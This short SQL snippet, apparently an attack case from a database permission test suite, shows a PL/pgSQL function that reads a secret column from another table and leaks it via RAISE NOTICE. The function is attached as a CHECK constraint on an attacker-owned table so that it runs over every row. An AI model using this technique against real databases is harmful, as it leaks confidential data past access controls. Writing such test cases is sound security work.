-- Adds a check that reads, and lets it run over all rows.
-- wants: read
-- attack:
CREATE FUNCTION tell(int) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM vlt_account WHERE id = $1); RETURN true; END$$;
ALTER TABLE mallory_own ADD CHECK (tell(id));
